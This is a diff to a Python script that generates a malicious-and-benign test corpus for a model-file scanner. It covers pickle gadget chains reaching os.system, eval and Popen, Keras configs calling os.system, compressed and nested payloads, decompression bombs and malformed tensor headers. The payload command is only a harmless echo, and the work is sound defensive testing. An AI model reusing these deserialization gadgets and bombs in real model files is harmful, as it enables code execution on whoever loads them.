@@ -13,9 +13,15 @@ M = os.path.join(out, "malicious"); B = os.path.join(out, "benign")
 os.makedirs(M, exist_ok=True); os.makedirs(B, exist_ok=True)
 CMD = "echo bulwark-test"
 
-def w(d, name, data):
+EXPECT = {}   # corpus-relative path -> (expectation, rule family, note); see expected_tsv.py
+
+def exp(d, name, verdict, rule="-", note=""):
+    EXPECT[os.path.relpath(os.path.join(d, name), out)] = (verdict, rule, note)
+
+def w(d, name, data, verdict=None, rule="-", note=""):
     with open(os.path.join(d, name), "wb") as f:
         f.write(data)
+    if verdict: exp(d, name, verdict, rule, note)
 
 def g0(mod, name):  # protocol 0 GLOBAL + REDUCE with one string argument
     return b"c" + mod.encode() + b"\n" + name.encode() + b"\n(S'" + CMD.encode() + b"'\ntR."
@@ -91,7 +97,7 @@ with zipfile.ZipFile(tb, "w") as z:
 w(M, "zip_traversal.pt", tb.getvalue())
 bb = io.BytesIO()
 with zipfile.ZipFile(bb, "w", zipfile.ZIP_DEFLATED) as z: z.writestr("archive/data.pkl", b"\x80\x02}." + b"\x00" * (50 << 20))
-w(M, "zip_bomb.pt", bb.getvalue())
+w(M, "zip_bomb.pt", bb.getvalue(), "high", "zip", "deflate bomb: 50 MiB entry at ratio > 200")
 # 25: legacy tar checkpoint with a malicious pickle member
 import tarfile
 tbuf = io.BytesIO()
@@ -299,7 +305,303 @@ try:
     keras_h5(os.path.join(M, "lambda_latest_fixed.h5"), keras_config(lam), libver="latest", fixed=True)
     with h5py.File(os.path.join(B, "weights_only.h5"), "w") as f:   # no model_config: unsupported, not clean
         f.create_dataset("w", data=np.zeros(3))
+    exp(B, "weights_only.h5", "unsupported", "-", "HDF5 without model_config is not a Keras model")
 except ImportError:
     # without h5py keep a minimal signature-only file so the corpus stays complete
     w(M, "lambda.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 56 + json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}).encode())
+# ================= issue 14: gadgets, containers, malformed files, false-alarm twins =================
+import bz2, gzip, lzma, zlib, pathlib, argparse, uuid, decimal, fractions, datetime
+def ustr(x):  # SHORT_BINUNICODE, or BINUNICODE past 255 bytes
+    b = x.encode()
+    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)
+def framed(body):  # protocol 4 stream with one FRAME, as pickle.dumps writes it
+    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"."
+def sg_call(module, name, args=(CMD,)):  # STACK_GLOBAL module/name, then REDUCE with string args
+    return framed(ustr(module) + ustr(name) + b"\x93" + b"(" + b"".join(ustr(a) for a in args) + b"tR")
+def g_call(module, name, proto=4):        # GLOBAL opcode (text names) after PROTO: find_class walks dots from protocol 4
+    return bytes([0x80, proto]) + b"c" + module.encode() + b"\n" + name.encode() + b"\n" + ustr(CMD) + b"\x85R."
+
+# ---- 1. gadgets: dotted STACK_GLOBAL names walked with getattr by find_class (protocol >= 4) ----
+G = "pickle"
+for fname, mod, name, args in [
+    ("gadget_torch_utils_hub_load", "torch._utils", "torch.hub.load", ("x/y", "m")),
+    ("gadget_torch_utils_sys_modules", "torch._utils", "sys.modules.get", ("os",)),
+    ("gadget_torch_rebuild_globals", "torch._utils", "_rebuild_tensor_v2.__globals__.get", ("__builtins__",)),
+    ("gadget_torch_serialization_reexport", "torch", "serialization.pickle.loads", ("x",)),
+    ("gadget_collections_namedtuple_globals", "collections", "namedtuple.__globals__.get", ("_sys",)),
+    ("gadget_collections_ordereddict_init_globals", "collections", "OrderedDict.__init__.__globals__.get", ("__builtins__",)),
+    ("gadget_collections_sys_modules", "collections", "_sys.modules.get", ("os",)),
+    ("gadget_main_os_system", "__main__", "os.system", (CMD,)),
+    ("gadget_main_builtins_eval", "__main__", "__builtins__.eval", ("__import__('os').system('" + CMD + "')",)),
+    ("gadget_numpy_testing_os_system", "numpy", "testing._private.utils.os.system", (CMD,)),
+    ("gadget_numpy_npyio_pickle_loads", "numpy", "lib.npyio.pickle.loads", ("x",)),
+    ("gadget_numpy_ctypeslib_cdll", "numpy", "ctypeslib.ctypes.CDLL", ("libc.so.6",)),
+    ("gadget_builtins_object_subclasses", "builtins", "object.__subclasses__", ()),
+    ("gadget_builtins_type_subclasses", "builtins", "dict.__class__.__subclasses__", ()),
+    ("gadget_builtins_dict_fromkeys_globals", "builtins", "dict.__init__.__self__.__class__", ()),
+    ("gadget_copyreg_reconstructor_globals", "copyreg", "_reconstructor.__globals__.get", ("__builtins__",)),
+    ("gadget_datetime_sys_modules", "datetime", "sys.modules.get", ("os",)),
+    ("gadget_posixpath_os_system", "posixpath", "os.system", (CMD,)),
+    ("gadget_numpy_dtype_getattribute", "numpy", "dtype.__getattribute__", ("x",)),
+]:
+    w(M, fname + ".pkl", sg_call(mod, name, args), "malicious", G, f"STACK_GLOBAL {mod} {name}")
+w(M, "gadget_global_opcode_dotted_p4.pkl", g_call("torch._utils", "sys.modules.get"), "malicious", G, "GLOBAL with a dotted name after PROTO 4")
+w(M, "gadget_binunicode8_names.pkl", framed(b"\x8d" + struct.pack("<Q", 9) + b"posixpath" + b"\x8d" + struct.pack("<Q", 9) + b"os.system" + b"\x93" + ustr(CMD) + b"\x85R"),
+  "malicious", G, "BINUNICODE8 module/name strings")
+w(M, "gadget_inst_dotted_p4.pkl", b"\x80\x04(" + ustr(CMD) + b"iposixpath\nos.system\n.", "malicious", G, "INST with a dotted name after PROTO 4")
+w(M, "gadget_obj_dotted_p4.pkl", b"\x80\x04(" + ustr("collections") + ustr("_sys.modules.get") + b"\x93" + ustr("os") + b"o.", "malicious", G, "OBJ calling a STACK_GLOBAL walk")
+w(M, "gadget_memo_dotted_p5.pkl", b"\x80\x05" + ustr("builtins") + b"\x940" + ustr("type.__subclasses__") + b"\x940" + b"h\x00h\x01\x93)R.", "malicious", G, "dotted name through MEMOIZE/BINGET")
+w(M, "gadget_long_binput_dotted.pkl", b"\x80\x04" + ustr("torch._utils") + b"r\x00\x01\x00\x000" + ustr("_rebuild_tensor.__globals__.get") + b"r\x01\x01\x00\x000" + b"j\x00\x01\x00\x00j\x01\x01\x00\x00\x93" + ustr("__builtins__") + b"\x85R.", "malicious", G, "dotted name through LONG_BINPUT/LONG_BINGET")
+# dangerous callables re-exported by modules that are not on a deny list
+for fname, mod, name in [("reexport_pydoc_pipepager", "pydoc", "pipepager"), ("reexport_profile_run", "profile", "run"),
+                         ("reexport_cprofile_run", "cProfile", "run"), ("reexport_posixsubprocess_fork_exec", "_posixsubprocess", "fork_exec"),
+                         ("reexport_doctest_debug_script", "doctest", "debug_script"), ("reexport_ensurepip_run_pip", "ensurepip", "_run_pip"),
+                         ("reexport_torch_load", "torch", "load"), ("reexport_numpy_load", "numpy", "load"),
+                         ("reexport_pandas_read_pickle", "pandas", "read_pickle"), ("reexport_uuid_get_command_stdout", "uuid", "_get_command_stdout"),
+                         ("reexport_trace_runctx", "trace", "Trace.runctx"), ("reexport_frozen_importlib_call", "_frozen_importlib", "_call_with_frames_removed")]:
+    w(M, fname + ".pkl", g_call(mod, name, proto=2) if "." not in name else sg_call(mod, name), "malicious", G, f"{mod}.{name}")
+# benign twins: the same opcode shapes naming allow-listed constructors
+w(B, "stack_global_ordered_dict_p4.pkl", framed(ustr("collections") + ustr("OrderedDict") + b"\x93)R"))
+w(B, "global_opcode_p4_ordered_dict.pkl", b"\x80\x04ccollections\nOrderedDict\n)R.")
+w(B, "stack_global_memo_ordered_dict.pkl", framed(ustr("collections") + b"\x940" + ustr("OrderedDict") + b"\x940h\x00h\x01\x93)R"))
+
+# ---- Keras configs: functions and modules outside keras (CVE-2025-1550 / -8747 / -9906 patterns) ----
+K = "keras"
+def keras_zip(config, name):
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w") as z:
+        z.writestr("metadata.json", json.dumps({"keras_version": "3.10.0", "date_saved": "2025-07-01@00:00:00"}))
+        z.writestr("config.json", json.dumps(config)); z.writestr("model.weights.h5", b"")
+    return b.getvalue()
+def seq(*layers):
+    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "dtype": "float32",
+            "layers": [{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}, "registered_name": None}] + list(layers)},
+            "registered_name": None, "build_config": {"input_shape": [None, 4]}}
+def dense(activation="relu"):
+    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": activation, "use_bias": True}, "registered_name": None}
+def fn(module, name): return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}
+get_file_layer = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": fn("keras.utils", "get_file")},
+                  "registered_name": None, "inbound_nodes": [{"args": [], "kwargs": {"fname": "x.tar.gz", "origin": "http://example.invalid/x.tar.gz", "extract": True, "cache_dir": "/tmp/bulwark-test"}}]}
+keras_cases = {
+    "keras_get_file.keras": seq(get_file_layer),
+    "keras_get_file_src_module.keras": seq(dense(fn("keras.src.utils.file_utils", "get_file"))),
+    "keras_load_model_unsafe.keras": seq(dense(fn("keras.models", "load_model"))),
+    "keras_saving_load_model.keras": seq(dense(fn("keras.saving", "load_model"))),
+    "keras_enable_unsafe_deserialization.keras": seq(dense(fn("keras.config", "enable_unsafe_deserialization")), {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}}}),
+    "keras_set_global_attribute.keras": seq(dense(fn("keras.src.saving.serialization_lib", "set_global_attribute"))),
+    "keras_module_os_system.keras": seq(dense(fn("os", "system"))),
+    "keras_module_subprocess_class.keras": seq({"module": "subprocess", "class_name": "Popen", "config": {"args": CMD}, "registered_name": None}),
+    "keras_module_builtins_exec.keras": seq(dense(fn("builtins", "exec"))),
+    "keras_module_posix_dotted.keras": seq(dense(fn("keras.src.utils.file_utils", "os.system"))),
+    "keras_lambda_in_timedistributed.keras": seq({"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lam", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA", "defaults": None, "closure": None}}}, "registered_name": None}}, "registered_name": None}),
+}
+for name, cfg in keras_cases.items(): w(M, name, keras_zip(cfg, name), "malicious", K, "config.json")
+w(B, "keras_function_activation.keras", keras_zip(seq(dense(fn("keras.activations", "relu")), dense("softmax")), ""))
+w(B, "keras_plain_dense.keras", keras_zip(seq(dense(), dense("linear")), ""))
+try:
+    import h5py, numpy as np
+    for name, cfg in [("keras_get_file.h5", seq(get_file_layer)), ("keras_module_os_system.h5", seq(dense(fn("os", "system")))),
+                      ("keras_module_builtins_exec.h5", seq(dense(fn("builtins", "exec")))), ("keras_module_subprocess_class.h5", seq({"module": "subprocess", "class_name": "Popen", "config": {"args": CMD}}))]:
+        with h5py.File(os.path.join(M, name), "w") as f:
+            f.attrs["keras_version"] = "3.10.0"; f.attrs["backend"] = "torch"; f.attrs["model_config"] = json.dumps(cfg)
+            f.create_group("model_weights")
+        exp(M, name, "malicious", K, "model_config")
+    with h5py.File(os.path.join(B, "keras_function_activation.h5"), "w") as f:
+        f.attrs["keras_version"] = "3.10.0"; f.attrs["backend"] = "torch"; f.attrs["model_config"] = json.dumps(seq(dense(fn("keras.activations", "relu"))))
+        f.create_group("model_weights")
+except ImportError:
+    pass
+
+# ---- 2. containers: compressed pickles (pandas.read_pickle / joblib.load infer the compression) ----
+evil = pickle.dumps(Reduce(os.system, (CMD,)), protocol=4)
+plain_state = pickle.dumps({"epoch": 3, "lr": 0.01, "history": [0.9, 0.5, 0.3], "name": "bulwark"}, protocol=4)
+def xz(b): return lzma.compress(b, format=lzma.FORMAT_XZ)
+def lzma_alone(b): return lzma.compress(b, format=lzma.FORMAT_ALONE)
+compressors = {"gz": gzip.compress, "bz2": bz2.compress, "xz": xz, "lzma": lzma_alone, "zlib": zlib.compress}
+for ext, c in compressors.items():
+    w(M, f"payload.pkl.{ext}", c(evil), "malicious", G, f"{ext}-compressed pickle")
+    w(B, f"state.pkl.{ext}", c(plain_state))
+w(M, "payload_gz_misnamed.pkl", gzip.compress(evil), "malicious", G, "gzip content, .pkl name")
+w(M, "payload_double_gzip.pkl.gz", gzip.compress(gzip.compress(evil)), "malicious", G, "gzip inside gzip")
+w(M, "payload_after_benign_gzip_member.pkl.gz", gzip.compress(plain_state) + gzip.compress(evil), "malicious", G, "second gzip member holds the payload")
+# zips preceded by other bytes (Python's zipfile finds the central directory from the end)
+junk = b"#!/bin/sh\necho not a model\n" + bytes(range(256)) * 4
+w(M, "junk_prefixed_torch_zip.pt", junk + torch_zip(evil), "malicious", G, "torch zip after 1 KiB of junk")
+w(B, "junk_prefixed_torch_zip.pt", junk + torch_zip(plain_state))
+# nested archives
+def zip_of(entries, method=zipfile.ZIP_STORED):
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w", method) as z:
+        for n, d in entries: z.writestr(n, d)
+    return b.getvalue()
+def tar_of(entries, mode="w"):
+    b = io.BytesIO()
+    with tarfile.open(fileobj=b, mode=mode, format=tarfile.USTAR_FORMAT) as t:
+        for n, d in entries:
+            info = tarfile.TarInfo(n); info.size = len(d); info.mtime = 0; t.addfile(info, io.BytesIO(d))
+    return b.getvalue()
+for tag, payload, d, v in [("payload", evil, M, "malicious"), ("state", plain_state, B, None)]:
+    w(d, f"zip_in_zip_{tag}.zip", zip_of([("inner.zip", zip_of([("data.pkl", payload)]))]), v, G if v else "-", "zip > zip > data.pkl")
+    w(d, f"pt_in_zip_{tag}.zip", zip_of([("checkpoints/model.pt", torch_zip(payload))], zipfile.ZIP_DEFLATED), v, G if v else "-", "zip > torch zip")
+    w(d, f"tar_gz_{tag}.tar.gz", tar_of([("model/README", b"weights"), ("model/model.pkl", payload)], "w:gz"), v, G if v else "-", "tar.gz > pickle")
+    w(d, f"tar_bz2_{tag}.tar.bz2", tar_of([("model.pkl", payload)], "w:bz2"), v, G if v else "-", "tar.bz2 > pickle")
+    w(d, f"tar_xz_{tag}.tar.xz", tar_of([("model.pkl", payload)], "w:xz"), v, G if v else "-", "tar.xz > pickle")
+    w(d, f"tar_plain_{tag}.tar", tar_of([("model.pkl", payload)]), v, G if v else "-", "tar > pickle (not a torch layout)")
+    w(d, f"pkl_gz_in_zip_{tag}.zip", zip_of([("model.pkl.gz", gzip.compress(payload))]), v, G if v else "-", "zip > gzip > pickle")
+for tag, payload, d, v in [("payload", evil, M, "malicious"), ("state", plain_state, B, None)]:
+    for meth, mname in [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")]:
+        w(d, f"pkl_in_zip_{mname}_method_{tag}.zip", zip_of([("model.pkl", payload)], meth), v, G if v else "-", f"zip entry compressed with method {mname} (pandas.read_pickle reads it)")
+# decompression bombs: 1 GiB declared pickle bytes of zeros (the committed file stays small)
+def bomb(comp, tail=b""):
+    c = comp(); n = 1 << 30
+    out_ = [c.compress(b"\x80\x04\x8e" + struct.pack("<Q", n))]
+    chunk = bytes(1 << 24)
+    for _ in range(n // len(chunk)): out_.append(c.compress(chunk))
+    out_.append(c.compress(b"0" + tail + b".")); out_.append(c.flush())
+    return b"".join(out_)
+w(M, "bomb_1gib.pkl.bz2", bomb(lambda: bz2.BZ2Compressor(9)), "high", "-", "bz2 bomb: 1 GiB BINBYTES8 of zeros")
+w(M, "bomb_1gib_tail_payload.pkl.bz2", bomb(lambda: bz2.BZ2Compressor(9), g0("os", "system")[:-1].replace(b"c", b"c", 1)), "high", "-", "payload after 1 GiB of zeros: past any limit, must not be clean")
+gz = zlib.compressobj(9, zlib.DEFLATED, 31)
+def gzc():
+    class C:
+        def compress(self, b): return gz.compress(b)
+        def flush(self): return gz.flush()
+    return C()
+w(M, "bomb_gzip_256mib.pkl.gz", (lambda: (lambda c: b"".join([c.compress(b"\x80\x04\x8e" + struct.pack("<Q", 1 << 28))] + [c.compress(bytes(1 << 24)) for _ in range(16)] + [c.compress(b"0."), c.flush()]))(gzc()))(),
+  "high", "-", "gzip ratio ~1000: 256 MiB from ~250 KiB")
+
+# ---- 3. malformed files (severity high, rule family = format) ----
+def st(header, data=b""):
+    h = json.dumps(header).encode()
+    return struct.pack("<Q", len(h)) + h + data
+for name, header, data, note in [
+    ("st_shape_overflow.safetensors", {"w": {"dtype": "F32", "shape": [1 << 32, 1 << 32, 16], "data_offsets": [0, 8]}}, bytes(8), "shape product overflows 64 bits"),
+    ("st_offset_overflow.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [18446744073709551608, 18446744073709551615]}}, bytes(8), "offsets near 2^64"),
+    ("st_offset_huge.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 340282366920938463463374607431768211456]}}, bytes(8), "offset past 2^64"),
+    ("st_overlap.safetensors", {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24), "overlapping tensors"),
+    ("st_past_end.safetensors", {"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, bytes(16), "offsets past the file"),
+    ("st_reversed.safetensors", {"w": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}}, bytes(8), "end before begin"),
+    ("st_size_mismatch.safetensors", {"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 8]}}, bytes(8), "shape needs 24 bytes, offsets give 8"),
+    ("st_negative_dim.safetensors", {"w": {"dtype": "F32", "shape": [-2, 1], "data_offsets": [0, 8]}}, bytes(8), "negative dimension"),
+]:
+    w(M, name, st(header, data), "high", "safetensors", note)
+w(M, "st_header_len_huge.safetensors", struct.pack("<Q", 1 << 62) + b'{"w":{}}', "high", "safetensors", "header length 2^62")
+w(B, "st_two_tensors_meta.safetensors", st({"__metadata__": {"format": "pt"}, "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "I64", "shape": [1], "data_offsets": [16, 24]}}, bytes(24)))
+w(B, "st_empty_tensor.safetensors", st({"e": {"dtype": "F16", "shape": [0, 3], "data_offsets": [0, 0]}, "s": {"dtype": "BF16", "shape": [], "data_offsets": [0, 2]}}, bytes(2)))
+
+# GGUF v3: magic, u32 version, u64 n_tensors, u64 n_kv, kv pairs, tensor infos, padding to alignment, data
+def gs(x): b = x.encode() if isinstance(x, str) else x; return struct.pack("<Q", len(b)) + b
+def kv_str(k, v): return gs(k) + struct.pack("<I", 8) + gs(v)
+def kv_u32(k, v): return gs(k) + struct.pack("<I", 4) + struct.pack("<I", v)
+def kv_arr_str(k, items): return gs(k) + struct.pack("<IIQ", 9, 8, len(items)) + b"".join(gs(i) for i in items)
+def tinfo(name, dims, typ=0, off=0): return gs(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", typ, off)
+def gguf(kvs, tinfos, data=b"", n_t=None, n_kv=None):
+    head = b"GGUF" + struct.pack("<IQQ", 3, len(tinfos) if n_t is None else n_t, len(kvs) if n_kv is None else n_kv) + b"".join(kvs) + b"".join(tinfos)
+    return head + bytes((-len(head)) % 32) + data
+arch = [kv_str("general.architecture", "llama"), kv_str("general.name", "bulwark-tiny"), kv_u32("general.alignment", 32)]
+w(B, "tiny_handmade.gguf", gguf(arch + [kv_arr_str("tokenizer.ggml.tokens", ["<s>", "</s>", "a"])], [tinfo("w", [4, 2]), tinfo("b", [2], 0, 32)], bytes(64)))
+for name, kvs, tis, data, note in [
+    ("gguf_string_len_huge.gguf", [gs("general.architecture") + struct.pack("<I", 8) + struct.pack("<Q", 1 << 40) + b"llama"], [], b"", "string length 2^40"),
+    ("gguf_key_len_huge.gguf", [struct.pack("<Q", (1 << 63) + 5) + b"general"], [], b"", "key length 2^63"),
+    ("gguf_array_len_huge.gguf", arch + [gs("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 1 << 50) + gs("a")], [], b"", "array of 2^50 strings"),
+    ("gguf_array_u8_len_huge.gguf", arch + [gs("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, 0, 1 << 44)], [], b"", "array of 2^44 u8 in a tiny file"),
+    ("gguf_ndims_huge.gguf", arch, [gs("w") + struct.pack("<I", 1 << 30) + struct.pack("<Q", 4)], b"", "2^30 dimensions"),
+    ("gguf_dims_overflow.gguf", arch, [tinfo("w", [1 << 40, 1 << 40])], bytes(32), "dimension product overflows 64 bits"),
+    ("gguf_tensor_past_end.gguf", arch, [tinfo("w", [1 << 20])], bytes(32), "tensor data of 4 MiB in a file of < 1 KiB"),
+    ("gguf_offset_past_end.gguf", arch, [tinfo("w", [4], 0, 1 << 40)], bytes(32), "tensor offset 2^40"),
+    ("gguf_bad_type.gguf", arch + [gs("x") + struct.pack("<I", 99) + b"\0" * 8], [], b"", "metadata value type 99"),
+]:
+    w(M, name, gguf(kvs, tis, data), "high", "gguf", note)
+try:
+    import gguf as ggufpkg, numpy as np
+    gw = ggufpkg.GGUFWriter(os.path.join(B, "tiny_gguf_writer.gguf"), "llama")
+    gw.add_block_count(1); gw.add_context_length(8); gw.add_name("bulwark-tiny")
+    gw.add_token_list(["<s>", "</s>", "a", "b"]); gw.add_tensor("w", np.arange(8, dtype=np.float32).reshape(2, 4)); gw.add_tensor("b", np.zeros(4, dtype=np.float16))
+    gw.write_header_to_file(); gw.write_kv_data_to_file(); gw.write_tensors_to_file(); gw.close()
+except ImportError:
+    pass
+
+# NPY
+def npy(descr, shape, payload, fortran=False):
+    header = "{'descr': '%s', 'fortran_order': %s, 'shape': %s, }" % (descr, fortran, shape)
+    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload
+w(M, "npy_truncated_data.npy", npy("<f4", "(1000,)", bytes(40)), "high", "npy", "header says 1000 float32, file holds 10")
+w(M, "npy_shape_overflow.npy", npy("<f8", "(4294967296, 4294967296)", bytes(64)), "high", "npy", "shape product overflows 64 bits")
+w(M, "npy_negative_dim.npy", npy("<f4", "(-1, 4)", bytes(16)), "high", "npy", "negative dimension")
+w(M, "npy_unparsable_header.npy", npy("<f4", "(2, __import__('os'))", bytes(8)), "high", "npy", "shape is not a tuple of ints")
+w(B, "npy_fortran.npy", npy("<f8", "(2, 3)", bytes(48), fortran=True))
+w(B, "npy_scalar.npy", npy("<i8", "()", bytes(8)))
+w(B, "npy_structured.npy", npy("[('a', '<f4'), ('b', '<i2')]", "(3,)", bytes(18)))
+try:
+    import onnx
+    from onnx import helper, TensorProto
+    def onnx_with(init):
+        g = helper.make_graph([helper.make_node("Identity", ["W"], ["y"])], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)], [init])
+        return helper.make_model(g, producer_name="bulwark-corpus").SerializeToString()
+    def tp(dims, raw, dt=TensorProto.FLOAT):
+        t = TensorProto(); t.name = "W"; t.data_type = dt; t.dims.extend(dims); t.raw_data = raw; return t
+    w(M, "onnx_dims_overflow.onnx", onnx_with(tp([1 << 40, 1 << 40], bytes(4))), "high", "onnx", "dims product overflows 64 bits")
+    w(M, "onnx_raw_data_mismatch.onnx", onnx_with(tp([3, 2], bytes(8))), "high", "onnx", "dims need 24 bytes, raw_data has 8")
+    w(M, "onnx_negative_dim.onnx", onnx_with(tp([-3, 2], bytes(24))), "high", "onnx", "negative dimension")
+    fd = TensorProto(); fd.name = "W"; fd.data_type = TensorProto.FLOAT; fd.dims.extend([4, 4]); fd.float_data.extend([1.0, 2.0])
+    w(M, "onnx_float_data_mismatch.onnx", onnx_with(fd), "high", "onnx", "16 elements declared, 2 in float_data")
+    w(B, "onnx_float_data.onnx", onnx_with(helper.make_tensor("W", TensorProto.FLOAT, [2, 2], [1.0, 2.0, 3.0, 4.0])))
+    w(B, "onnx_int64_raw.onnx", onnx_with(tp([3], struct.pack("<3q", 1, 2, 3), TensorProto.INT64)))
+except ImportError:
+    pass
+
+# ---- 4. false-alarm classes and their malicious twins ----
+V = {"partial_ordered_dict": functools.partial(OrderedDict, a=1), "partial_timedelta": functools.partial(datetime.timedelta, days=1),
+     "partial_dict_kwargs": functools.partial(dict, lr=0.1, momentum=0.9),
+     "namespace": argparse.Namespace(lr=0.1, epochs=3, name="run"), "pure_posix_path": pathlib.PurePosixPath("/data/train.csv"),
+     "pure_windows_path": pathlib.PureWindowsPath("C:/data/train.csv"), "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
+     "decimal": decimal.Decimal("1.25"), "fraction": fractions.Fraction(1, 3),
+     "datetimes": [datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc), datetime.date(2024, 1, 2), datetime.time(3, 4), datetime.timedelta(hours=1), datetime.timezone(datetime.timedelta(hours=2))],
+     "complex_bytes_sets": {"c": 1 + 2j, "b": b"\x00\x01", "ba": bytearray(b"xy"), "s": {1, 2}, "fs": frozenset({3}), "sl": slice(1, 5, 2), "r": range(3)}}
+for name, obj in V.items():
+    for proto in (2, 4):
+        w(B, f"value_{name}_p{proto}.pkl", pickle.dumps(obj, protocol=proto))
+w(M, "partial_os_system.pkl", pickle.dumps(functools.partial(os.system, CMD), protocol=4), "malicious", G, "partial(os.system, CMD)")
+w(M, "partial_called_os_system.pkl", pickle.dumps(Reduce(functools.partial(os.system, CMD), ()), protocol=4), "malicious", G, "partial(os.system, CMD)() at load")
+w(M, "partial_ordered_dict_then_eval.pkl", pickle.dumps([functools.partial(OrderedDict, a=1), Reduce(builtins.eval, ("1",))], protocol=4), "malicious", G, "benign partial next to eval")
+w(M, "pathlib_write_text.pkl", pickle.dumps(Reduce(pathlib.Path.write_text, (pathlib.PurePosixPath("/tmp/bulwark-test"), CMD)), protocol=4), "malicious", G, "Path.write_text")
+w(M, "pathlib_unlink.pkl", pickle.dumps(Reduce(pathlib.Path.unlink, (pathlib.PurePosixPath("/tmp/bulwark-test"),)), protocol=4), "malicious", G, "Path.unlink")
+w(M, "pathlib_path_open.pkl", sg_call("pathlib", "Path.open", ("/tmp/bulwark-test", "w")), "malicious", G, "Path.open")
+w(M, "uuid_get_command_stdout.pkl", pickle.dumps(Reduce(uuid._get_command_stdout, ("echo", "bulwark-test")), protocol=4), "malicious", G, "uuid._get_command_stdout runs a command")
+w(M, "argparse_filetype_call.pkl", pickle.dumps(Reduce(argparse.FileType("w"), ("/tmp/bulwark-test",)), protocol=4), "malicious", G, "argparse.FileType('w')(path) opens a file")
+w(M, "argparse_namespace_then_system.pkl", pickle.dumps([argparse.Namespace(lr=0.1), Reduce(os.system, (CMD,))], protocol=2), "malicious", G, "Namespace next to os.system")
+w(M, "decimal_module_sys.pkl", sg_call("decimal", "sys.modules.get", ("os",)), "malicious", G, "decimal + sys.modules walk")
+w(M, "datetime_module_os.pkl", sg_call("datetime", "_time.sleep.__self__.__loader__.load_module", ("os",)), "malicious", G, "datetime attribute walk to a loader")
+try:
+    import numpy as np
+    rs = np.random.RandomState(0); gen = np.random.default_rng(0)
+    for proto in (2, 4):
+        w(B, f"numpy_randomstate_p{proto}.pkl", pickle.dumps(rs, protocol=proto))
+        w(B, f"numpy_generator_p{proto}.pkl", pickle.dumps(gen, protocol=proto))
+    for bg in (np.random.PCG64DXSM(1), np.random.Philox(2), np.random.SFC64(3), np.random.MT19937(4)):
+        w(B, f"numpy_bitgen_{type(bg).__name__}.pkl", pickle.dumps(np.random.Generator(bg), protocol=4))
+    w(B, "numpy_dtypes_p4.pkl", pickle.dumps([np.ones(3, dtype=t) for t in (np.float16, np.float32, np.int8, np.uint16, np.bool_, np.complex64)] + [np.float64(1.5), np.int64(3)], protocol=4))
+    w(B, "numpy_object_strings.pkl", pickle.dumps(np.array(["a", "bc"], dtype=object), protocol=4))
+    from numpy.random import _pickle as nprp
+    w(M, "numpy_bitgen_ctor_popen.pkl", pickle.dumps(Reduce(nprp.__bit_generator_ctor, (subprocess.Popen,)), protocol=4), "malicious", G, "__bit_generator_ctor given a class to call")
+    w(M, "numpy_randomstate_state_eval.pkl", pickle.dumps([rs, Reduce(builtins.eval, ("1",))], protocol=4), "malicious", G, "RandomState next to eval")
+except ImportError:
+    pass
+# joblib containers: every compression, protocols 0 and 1 (benign twins made by make_benign_corpus.py)
+try:
+    import joblib, numpy as np
+    for c in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
+        try:
+            joblib.dump({"coef": np.ones(3), "hook": Reduce(os.system, (CMD,))}, os.path.join(M, f"joblib_{c}.joblib"), compress=(c, 3))
+            exp(M, f"joblib_{c}.joblib", "malicious", G, f"joblib compress={c}")
+        except (ValueError, ImportError):
+            pass
+    for proto in (0, 1):
+        joblib.dump({"coef": np.ones(3), "hook": Reduce(os.system, (CMD,))}, os.path.join(M, f"joblib_protocol{proto}.joblib"), protocol=proto)
+        exp(M, f"joblib_protocol{proto}.joblib", "malicious", G, f"joblib protocol {proto}")
+except ImportError:
+    pass
+from expected_tsv import write_expected
+write_expected(out, EXPECT)
 print("corpus written to", out)
